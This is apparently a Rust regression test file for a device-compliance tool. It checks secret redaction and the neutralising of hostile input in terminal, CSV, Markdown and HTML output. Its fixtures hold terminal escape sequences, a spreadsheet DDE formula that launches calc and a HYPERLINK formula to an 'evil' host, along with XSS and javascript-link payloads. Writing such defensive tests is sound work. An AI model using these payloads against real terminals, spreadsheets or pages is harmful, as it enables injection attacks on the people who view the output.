//! Regression tests for the red-team findings of ../shared/reviews/security-2026-12.md (issue 14):
//! F7 (redaction), F17 (report merge), F18 (hostile text in terminal, CSV and Markdown output) and a
//! closed stdout (issue item 6).

#[allow(unused_imports)]
use crate::support::*;

use std::path::{Path, PathBuf};

/// A site holding `agent_key`, mode 600 (a world-readable site holding a secret is refused, F8).
fn secret_site(agent_key: &str) -> (tempfile::TempDir, PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let text = SITE.replace(
        "agent_key = \"RELAY-KEY-s3cr3t-0001\"",
        &format!("agent_key = '{agent_key}'"),
    );
    let (d, path) = site(&text);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    (d, path)
}

/// A copy of the shipped templates whose `linux/lansweeper.check.sh` is `script` (the review's
/// stand-in check).
fn stand_in_check(script: &str) -> tempfile::TempDir {
    let tpl = tempfile::tempdir().unwrap();
    copy_tree(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("templates"),
        tpl.path(),
    );
    std::fs::write(tpl.path().join("linux/lansweeper.check.sh"), script).unwrap();
    tpl
}

fn copy_tree(from: &Path, to: &Path) {
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let dest = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            std::fs::create_dir(&dest).unwrap();
            copy_tree(&e.path(), &dest);
        } else {
            std::fs::copy(e.path(), &dest).unwrap();
        }
    }
}

/// `check --only apps.lansweeper` on this Debian host with the stand-in check; what it printed and
/// what it wrote under the state directory (the record).
fn run_stand_in(agent_key: &str, script: &str) -> Option<String> {
    if !on_debian_12("the stand-in check is a template of the debian-12 profile") {
        return None;
    }
    let (_d, site_path) = secret_site(agent_key);
    let tpl = stand_in_check(script);
    let r = Handover::new(&[
        "check",
        "--site",
        s(&site_path),
        "--templates-dir",
        s(tpl.path()),
        "--only",
        "apps.lansweeper",
        "--format",
        "json",
    ])
    .run();
    assert!(matches!(r.code(), 0 | 1), "{}", r.stderr());
    let mut all = format!("{}\n{}\n", r.stdout(), r.stderr());
    let mut files = vec![];
    collect_files(r.state.path(), &mut files);
    assert!(
        files.iter().any(|f| f.to_string_lossy().ends_with(".json")),
        "no record written: {files:?}"
    );
    for f in files {
        all.push_str(&String::from_utf8_lossy(&std::fs::read(&f).unwrap()));
    }
    Some(all)
}

fn collect_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            collect_files(&p, out);
        } else {
            out.push(p);
        }
    }
}

#[track_caller]
fn assert_no_piece(text: &str, secret: &str, n: usize) {
    for w in secret.as_bytes().windows(n) {
        let piece = std::str::from_utf8(w).unwrap();
        assert!(
            !text.contains(piece),
            "{piece:?} of the secret leaked:\n{text}"
        );
    }
}

#[test]
fn f7_a_secret_straddling_the_output_cut_leaks_no_piece() {
    let key = "3f9a0c7e-51b2-4d6e-9c0a-6b2f1e8d4a37";
    // "starting\n" (9 bytes), the key (36), 3979 bytes: the last 4000 bytes of stderr (without its
    // final newline) begin 24 bytes in, inside the key.
    let script = "printf 'starting\\n' >&2\nprintf '%s' \"$HANDOVER_SECRET_LANSWEEPER_AGENT_KEY\" >&2\nhead -c 3979 /dev/zero | tr '\\0' 'z' >&2\nprintf '\\n' >&2\nexit 1\n";
    let Some(all) = run_stand_in(key, script) else {
        return;
    };
    assert!(
        all.contains("zzzz"),
        "the stand-in check did not run:\n{all}"
    );
    assert_no_piece(&all, key, 6);
}

#[test]
fn f7_a_secret_with_quotes_in_observed_is_redacted() {
    let key = r#"Rel"ay\Key 77-quoted"#;
    let json = serde_json::to_string(key).unwrap();
    let line = format!(
        r#"{{"compliant": false, "reason": "r", "observed": {{"raw": {json}, {json}: 1, "list": ["a " , {{"deep": {json}}}]}}}}"#
    );
    let script = format!("printf '%s\\n' '{line}'\n");
    let Some(all) = run_stand_in(key, &script) else {
        return;
    };
    assert!(all.contains("<secret:lansweeper.agent_key>"), "{all}");
    for form in [
        "Rel\\\"ay",
        "Rel\"ay",
        "ay\\\\Key",
        "ay\\Key",
        "Key 77-quoted",
    ] {
        assert!(!all.contains(form), "{form:?} leaked:\n{all}");
    }
}

#[test]
fn f7_a_base64_secret_in_observed_is_redacted() {
    use base64::Engine as _;
    let key = "RelayKey-Plain-77";
    let std = base64::engine::general_purpose::STANDARD;
    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let forms = [
        std.encode(key),
        url.encode(key),
        std.encode(format!("agent_key={key}\n")),
        url.encode(format!("k={key}")),
    ];
    let line = format!(
        r#"{{"compliant": false, "reason": "r", "observed": {{"b64": "{}", "url": "{}", "inside": "{}", "inside_url": "{}"}}}}"#,
        forms[0], forms[1], forms[2], forms[3]
    );
    let script = format!("printf '%s\\n' '{line}'\n");
    let Some(all) = run_stand_in(key, &script) else {
        return;
    };
    assert!(all.contains("<secret:lansweeper.agent_key>"), "{all}");
    // The characters that depend on the key's bytes only (12 of them at any alignment) never show.
    for form in &forms {
        assert!(!all.contains(form.as_str()), "{form} leaked:\n{all}");
    }
    assert!(!all.contains(&std.encode(key)[..12]), "{all}");
}

/// Issue 14 item 6: `handover profiles show debian-12 | head -1` panicked with "failed printing to
/// stdout: Broken pipe" (exit 101). The pipe's read end is closed before the binary starts, so every
/// write to stdout fails.
#[test]
fn epipe_a_closed_stdout_ends_quietly() {
    for args in [
        &["profiles", "show", "debian-12"][..],
        &["profiles", "list"][..],
        &["facts"][..],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let state = tempfile::tempdir().unwrap();
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_handover"))
            .args(args)
            .env("HANDOVER_STATE_DIR", state.path())
            .stdout(writer)
            .stderr(std::process::Stdio::piped())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {stderr}");
        assert!(stderr.is_empty(), "{args:?}: {stderr}");
    }
}

/// A record of a hostile device: its hostname, user, reason and warning carry terminal escape
/// sequences, Markdown and HTML (the review's F18 samples) and spreadsheet formulas (F17).
fn hostile_record(seq: u32, status: &str, hostname: &str, reason: &str) -> String {
    serde_json::json!({
        "record_version": 1,
        "profile_digest": "sha256:ab",
        "artifacts": {},
        "previous": null,
        "report": {
            "tool": {"name": "handover", "version": "0.1.0"},
            "mode": "check", "scope": "full",
            "profile": {"name": "debian-12", "digest": "sha256:ab"},
            "device": {"hostname": hostname, "serial": "SN1", "model": "m",
                       "os": {"family": "linux", "id": "debian", "version": "12",
                              "name": "Debian\u{1b}]52;c;Y2xpcGJvYXJk\u{7}"}},
            "asset": " =HYPERLINK(\"http://evil/\"&A1)", "user": "jdoe\u{1b}[8m hidden",
            "started_at": format!("2026-11-2{seq}T10:00:00Z"), "finished_at": format!("2026-11-2{seq}T10:00:00Z"),
            "controls": [{"id": "firewall.enabled", "title": "Firewall", "policy": "7.1.5",
                          "status": status, "changed": false, "reason": reason, "observed": {}, "duration_ms": 1}],
            "summary": {"pass": (status == "pass") as usize, "fail": (status == "fail") as usize, "fixed": 0,
                        "error": 0, "waived": 0, "not_applicable": 0, "manual": 0,
                        "compliant": status == "pass"},
            "warnings": ["see <img src=x onerror=alert(1)> and [click here](javascript:alert(1)) ![](http://evil.example/track.png)"]
        }
    })
    .to_string()
}

const HOSTILE_HOST: &str = "h\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2Jcleared\u{9b}31m";
const HOSTILE_REASON: &str = "ok\u{1b}]52;c;cGFzdGU=\u{7} <script>x</script> [a](javascript:b)";

fn hostile_state() -> tempfile::TempDir {
    let state = tempfile::tempdir().unwrap();
    let records = state.path().join("records");
    std::fs::create_dir_all(&records).unwrap();
    std::fs::write(
        records.join("000001-a-check-full.json"),
        hostile_record(1, "fail", HOSTILE_HOST, "before"),
    )
    .unwrap();
    std::fs::write(
        records.join("000002-b-check-full.json"),
        hostile_record(2, "pass", HOSTILE_HOST, HOSTILE_REASON),
    )
    .unwrap();
    state
}

#[track_caller]
fn assert_no_controls(what: &str, text: &str) {
    assert!(
        !text
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\r'),
        "{what} holds control characters: {text:?}"
    );
}

#[test]
fn f18_escape_and_osc_sequences_are_stripped_from_text_and_csv() {
    let state = hostile_state();
    let st = s(state.path());
    let diff = Handover::new(&["record", "diff", "1", "2"])
        .env("HANDOVER_STATE_DIR", st)
        .run();
    diff.expect_code(0);
    assert_no_controls("record diff", &diff.stdout());
    assert!(
        diff.stdout().contains("firewall.enabled"),
        "{}",
        diff.stdout()
    );

    let merge = Handover::new(&[
        "report",
        "merge",
        s(&state.path().join("records")),
        "--format",
        "csv",
    ])
    .run();
    merge.expect_code(0);
    let csv = merge.stdout();
    // CRLF ends each row; no other control character is in a cell.
    assert_no_controls("report merge --format csv", &csv.replace("\r\n", "\n"));
    assert!(csv.contains("\"h]0;PWNED-TITLE[2Jcleared31m\""), "{csv}");

    for format in ["md", "html"] {
        let show = Handover::new(&["record", "show", "--format", format])
            .env("HANDOVER_STATE_DIR", st)
            .run();
        show.expect_code(0);
        assert_no_controls(format, &show.stdout());
    }
}

#[test]
fn f18_html_links_and_images_are_inert_in_the_markdown_sheet() {
    let state = hostile_state();
    let show = Handover::new(&["record", "show", "--format", "md"])
        .env("HANDOVER_STATE_DIR", s(state.path()))
        .run();
    show.expect_code(0);
    let md = show.stdout();
    for raw in [
        "<img",
        "<script",
        "[click here](",
        "](javascript:",
        "![](",
        "[a](",
    ] {
        assert!(!md.contains(raw), "{raw:?} is live in the sheet:\n{md}");
    }
    for inert in [
        "&lt;img src=x onerror=alert\\(1\\)&gt;",
        "\\[click here\\]\\(javascript:alert\\(1\\)\\)",
        "\\!\\[\\]\\(http\\://evil.example/track.png\\)",
        "&lt;script&gt;x&lt;/script&gt;",
    ] {
        assert!(md.contains(inert), "missing {inert:?} in\n{md}");
    }
}

#[test]
fn f17_csv_cells_are_quoted_and_never_formulas() {
    let dir = tempfile::tempdir().unwrap();
    for (i, host) in [
        " =1+1",
        "x;=cmd|' /C calc'!A0",
        "\u{ff1d}1+1",
        "\t@SUM(A1)",
        "-2+3",
    ]
    .iter()
    .enumerate()
    {
        let rec = hostile_record(1, "pass", host, "r").replace("\"SN1\"", &format!("\"SN{i}\""));
        std::fs::write(dir.path().join(format!("{i}.json")), rec).unwrap();
    }
    let r = Handover::new(&["report", "merge", s(dir.path()), "--format", "csv"]).run();
    r.expect_code(0);
    let csv = r.stdout();
    for want in [
        "\" '=1+1\"",
        "\"x;'=cmd|' /C calc'!A0\"",
        "\"'\u{ff1d}1+1\"",
        "\" '@SUM(A1)\"",
        "\"'-2+3\"",
        "\" '=HYPERLINK(\"\"http://evil/\"\"&A1)\"",
    ] {
        assert!(csv.contains(want), "missing {want:?} in\n{csv}");
    }
    // Every cell is quoted: each line is "…","…",… with 18 cells.
    for line in csv.lines() {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
    }
}

#[test]
fn f17_merge_refuses_fifos_links_and_huge_files() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("hang.json");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let zero = dir.path().join("zero.json");
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    let big = dir.path().join("big.json");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    for (f, why) in [
        (&fifo, "not a regular file"),
        (&zero, "symbolic link"),
        (&big, "more than the"),
    ] {
        let started = std::time::Instant::now();
        let r = Handover::new(&["report", "merge", s(f), "--format", "csv"]).run();
        r.expect_code(2);
        assert!(r.stderr().contains(why), "{}", r.stderr());
        assert!(started.elapsed() < std::time::Duration::from_secs(20));
    }
}

#[test]
fn f18_html_report_and_error_messages_hold_no_control_characters() {
    let rec: serde_json::Value =
        serde_json::from_str(&hostile_record(1, "fail", HOSTILE_HOST, HOSTILE_REASON)).unwrap();
    let report: handover::evidence::report::Report =
        serde_json::from_value(rec["report"].clone()).unwrap();
    let page =
        handover::evidence::export::html(&report, &handover::inputs::profile::Sources::default())
            .unwrap();
    assert_no_controls("check --format html", &page);
    assert!(page.contains("h]0;PWNED-TITLE[2Jcleared31m"), "{page}");

    // An error naming a file of the device's choosing.
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("x\u{1b}]0;PWNED\u{7}.json");
    std::fs::write(&f, "not json").unwrap();
    let r = Handover::new(&["report", "merge", s(&f), "--format", "csv"]).run();
    r.expect_code(2);
    assert!(r.stderr().contains("]0;PWNED.json"), "{}", r.stderr());
    assert_no_controls("an error", &r.stderr());
}
